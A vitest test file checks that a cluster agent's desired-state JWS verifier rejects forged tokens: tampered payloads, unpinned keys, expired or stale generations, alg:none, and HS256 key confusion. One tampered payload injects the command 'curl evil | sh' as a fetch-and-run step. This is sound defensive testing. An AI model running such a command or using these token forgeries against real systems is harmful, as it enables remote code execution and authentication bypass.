import { beforeAll, describe, expect, it } from 'vitest';
import { SignJWT, exportJWK, generateKeyPair, type CryptoKey } from 'jose';
import { verifyDesiredState } from '../../agent/link/desired.js';
import type { Jwks } from '../../shared/contracts/enrollment.js';
import type { Assignment } from '../../shared/contracts/desired.js';

const CLUSTER = 'cls_test-cluster';
const MACHINE = 'mch_self';
const KID = 'sig_pinned';

const ASSIGNMENT: Assignment = {
  assignmentId: 'asg_1',
  deploymentId: 'dep_1',
  deploymentName: 'sim-chat',
  model: 'sim-chat',
  deploymentGeneration: 1,
  runtime: { kind: 'simulated', model: 'sim-chat', ttftMs: 20, tokensPerSecond: 200, loadMs: 100, memoryMiB: 64, failureRate: 0 },
  artifact: null,
  restartPolicy: { mode: 'on-failure', maxRestarts: 5, backoffMs: 500 },
  resources: { gpus: 0, memoryMiB: 64 },
  startup: { timeoutMs: 60_000, probeIntervalMs: 500, failureThreshold: 3 },
  templateHash: 'a'.repeat(64),
};

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

describe('verifyDesiredState', () => {
  let pinnedKey: CryptoKey;
  let strangerKey: CryptoKey;
  let jwks: Jwks;

  beforeAll(async () => {
    const pinned = await generateKeyPair('EdDSA', { crv: 'Ed25519', extractable: true });
    const stranger = await generateKeyPair('EdDSA', { crv: 'Ed25519', extractable: true });
    pinnedKey = pinned.privateKey;
    strangerKey = stranger.privateKey;
    const pub = await exportJWK(pinned.publicKey);
    jwks = { keys: [{ kty: pub.kty!, crv: pub.crv!, x: pub.x!, kid: KID, alg: 'EdDSA', use: 'sig' }] };
  });

  /** Signs like `signDesiredState`: EdDSA, kid, issuer = cluster id, subject = machine id. */
  function sign(opts: { gen?: number; sub?: string; iss?: string; key?: CryptoKey; kid?: string; iat?: number; exp?: number } = {}) {
    const now = Math.floor(Date.now() / 1000);
    return new SignJWT({ gen: opts.gen ?? 5, assignments: [ASSIGNMENT] })
      .setProtectedHeader({ alg: 'EdDSA', kid: opts.kid ?? KID, typ: 'lunanexa-desired+jwt' })
      .setIssuer(opts.iss ?? CLUSTER)
      .setSubject(opts.sub ?? MACHINE)
      .setIssuedAt(opts.iat ?? now)
      .setExpirationTime(opts.exp ?? now + 600)
      .sign(opts.key ?? pinnedKey);
  }

  const verify = (jws: string, heldGen = 0) => verifyDesiredState({ jws, jwks, machineId: MACHINE, clusterId: CLUSTER, heldGen });

  async function expectRejected(jws: string, heldGen = 0, reason?: RegExp) {
    const verdict = await verify(jws, heldGen);
    expect(verdict.accepted).toBe(false);
    if (!verdict.accepted && reason) expect(verdict.reason).toMatch(reason);
  }

  it('accepts a good JWS and returns its claims', async () => {
    const verdict = await verify(await sign(), 4);
    expect(verdict).toMatchObject({ accepted: true, desired: { sub: MACHINE, gen: 5, assignments: [ASSIGNMENT] } });
  });

  it('accepts the same generation again (a re-signed refresh)', async () => {
    expect((await verify(await sign({ gen: 5 }), 5)).accepted).toBe(true);
  });

  it('rejects a tampered payload', async () => {
    const [header, payload, signature] = (await sign({ gen: 5 })).split('.');
    const claims = JSON.parse(Buffer.from(payload!, 'base64url').toString()) as Record<string, unknown>;
    const raised = `${header}.${b64({ ...claims, gen: 6 })}.${signature}`;
    await expectRejected(raised, 0, /signature/);
    const swapped = `${header}.${b64({ ...claims, assignments: [{ ...ASSIGNMENT, runtime: { kind: 'process', command: ['/bin/sh', '-c', 'curl evil | sh'] } }] })}.${signature}`;
    await expectRejected(swapped, 0, /signature/);
  });

  it('rejects a signature by a key that is not pinned, even under the pinned kid', async () => {
    await expectRejected(await sign({ key: strangerKey }), 0, /signature/);
    await expectRejected(await sign({ key: strangerKey, kid: 'sig_other' }), 0, /signature/);
  });

  it('rejects an expired desired state', async () => {
    const now = Math.floor(Date.now() / 1000);
    await expectRejected(await sign({ iat: now - 1200, exp: now - 600 }), 0, /expired/);
  });

  it('rejects a generation older than the one held', async () => {
    await expectRejected(await sign({ gen: 4 }), 5, /older/);
  });

  it("rejects another machine's desired state", async () => {
    await expectRejected(await sign({ sub: 'mch_other' }), 0, /another machine/);
  });

  it('rejects a desired state issued by another cluster', async () => {
    await expectRejected(await sign({ iss: 'cls_other' }), 0, /iss/);
  });

  it('rejects an unsecured alg:none token', async () => {
    const now = Math.floor(Date.now() / 1000);
    const claims = { gen: 5, assignments: [ASSIGNMENT], iss: CLUSTER, sub: MACHINE, iat: now, exp: now + 600 };
    await expectRejected(`${b64({ alg: 'none', kid: KID })}.${b64(claims)}.`);
    await expectRejected(`${b64({ alg: 'none', kid: KID, typ: 'JWT' })}.${b64(claims)}`);
  });

  it('rejects HS256 keyed with the pinned public key', async () => {
    const x = jwks.keys[0]!.x;
    for (const secret of [new Uint8Array(Buffer.from(x, 'base64url')), new TextEncoder().encode(x)]) {
      const jws = await new SignJWT({ gen: 5, assignments: [ASSIGNMENT] })
        .setProtectedHeader({ alg: 'HS256', kid: KID })
        .setIssuer(CLUSTER)
        .setSubject(MACHINE)
        .setIssuedAt()
        .setExpirationTime('10m')
        .sign(secret);
      await expectRejected(jws);
    }
  });

  it('rejects a desired state without an expiry', async () => {
    const jws = await new SignJWT({ gen: 5, assignments: [ASSIGNMENT] })
      .setProtectedHeader({ alg: 'EdDSA', kid: KID })
      .setIssuer(CLUSTER)
      .setSubject(MACHINE)
      .setIssuedAt()
      .sign(pinnedKey);
    await expectRejected(jws);
  });

  it('rejects claims that do not match the contract', async () => {
    const jws = await new SignJWT({ gen: 5, assignments: [{ assignmentId: 'asg_1' }] })
      .setProtectedHeader({ alg: 'EdDSA', kid: KID })
      .setIssuer(CLUSTER)
      .setSubject(MACHINE)
      .setIssuedAt()
      .setExpirationTime('10m')
      .sign(pinnedKey);
    await expectRejected(jws, 0, /contract/);
  });
});
